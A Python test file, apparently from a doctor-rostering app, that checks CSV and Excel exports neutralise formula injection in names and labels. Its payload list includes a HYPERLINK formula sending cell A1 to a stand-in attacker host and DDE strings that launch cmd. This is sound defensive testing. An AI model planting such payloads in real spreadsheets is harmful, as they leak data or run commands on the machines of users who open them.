"""Formula and CSV injection (issue 14): names and labels a manager (or an attacker who got a
workbook uploaded) chose never become formulas in roster.csv, roster.xlsx, rapport.xlsx or the
template; CSV fields are neutralised as OWASP's CSV-injection guidance says."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
from factories import doctor, scenario, station, template

from roster.excel import write_roster_workbook, write_template
from roster.models import Assignment, OpenSlot, Roster, Scenario
from roster.output import write_roster_csv
from roster.report.build import check_view
from roster.report.xlsx import write_xlsx

# OWASP CSV injection payloads (leading whitespace is stripped by the models, so tab/CR go inside;
# a doctor's name may not hold «;», so the HYPERLINK's arguments are split by a comma)
PAYLOADS = ['=HYPERLINK("http://angriper.example/?x="&A1,"klikk")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]


def hostile() -> Scenario:
    return scenario(
        "2026-12-01", "2026-12-02",
        [template("dag", "08:00", "16:00", label="=dag"), template("natt", "23:00", "08:00", label="@natt")],
        [doctor(f"d{i}", name=p) for i, p in enumerate(PAYLOADS)],
        stations=[station("BLV", name='=HYPERLINK("http://angriper.example")')],
    )


def hostile_roster(s: Scenario) -> Roster:
    return Roster(scenario=s.name, period=s.period,
                  assignments=[Assignment(doctor="d0", template="dag", date=s.period.start),
                               Assignment(doctor="d1", template="natt", date=s.period.start),
                               Assignment(doctor="d2", template="dag", date=s.period.end)],
                  open_slots=[OpenSlot(template="natt", date=s.period.end, missing=1)])


def formula_cells(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_roster_csv_neutralises_every_field_that_starts_like_a_formula(tmp_path):
    s = hostile()
    path = tmp_path / "roster.csv"
    write_roster_csv(s, hostile_roster(s), path)
    text = path.read_text(encoding="utf-8-sig")
    with path.open(encoding="utf-8-sig") as f:
        rows = list(csv.reader(f, delimiter=";"))
    fields = [x for row in rows[1:] for x in row]
    assert not [x for x in fields if x[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"\"http://angriper.example\"\")" in text  # quoted, quotes doubled
    assert {row[8] for row in rows[1:]} >= {"'" + PAYLOADS[0], "'" + PAYLOADS[1], "'" + PAYLOADS[2]}
    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())


def test_ordinary_csv_fields_are_left_as_they_are(tmp_path):
    s = scenario("2026-12-01", "2026-12-01", [template("dag", "08:00", "16:00")], [doctor("a", name="Kari Nordmann")])
    path = tmp_path / "roster.csv"
    write_roster_csv(s, Roster(scenario=s.name, period=s.period,
                                assignments=[Assignment(doctor="a", template="dag", date=s.period.start)]), path)
    with path.open(encoding="utf-8-sig") as f:
        rows = list(csv.reader(f, delimiter=";"))
    assert rows[1] == ["2026-12-01", "tirsdag", "BLV", "dag", "2026-12-01 08:00", "2026-12-01 16:00", "8", "a",
                       "Kari Nordmann"]


def test_roster_workbook_has_no_formula_cells_and_keeps_the_names_as_text(tmp_path):
    s = hostile()
    path = tmp_path / "roster.xlsx"
    write_roster_workbook(s, hostile_roster(s), path)
    assert formula_cells(path) == []
    values = {c.value for ws in openpyxl.load_workbook(path) for row in ws.iter_rows() for c in row}
    assert PAYLOADS[0] in values and "=1+1" in values


def test_report_workbook_has_no_formula_cells(tmp_path):
    s = hostile()
    roster = hostile_roster(s)
    path = tmp_path / "rapport.xlsx"
    write_xlsx([check_view("=Håndlaget", s, roster), check_view("+Optimert", s, roster)], path)
    assert formula_cells(path) == []
    names = [c.value for c in openpyxl.load_workbook(path)["Leger"]["C"]]
    assert PAYLOADS[0] in names


def test_template_filled_from_a_hostile_scenario_has_no_formula_cells(tmp_path):
    path = tmp_path / "template.xlsx"
    write_template(path, hostile())
    assert formula_cells(path) == []


def test_the_doctors_links_csv_neutralises_names_that_start_like_a_formula():
    from api.services.exports import links_csv

    text = links_csv([[PAYLOADS[0], "d0", "fastlege", "", "+47 55 00 00 00", "http://x/lege/a", "http://x/a.ics"]])
    rows = list(csv.reader(text.decode("utf-8-sig").splitlines(), delimiter=";"))
    assert rows[1][0] == "'" + PAYLOADS[0] and rows[1][4] == "'+47 55 00 00 00"
    assert not [x for x in rows[1] if x[:1] in ("=", "+", "-", "@")]
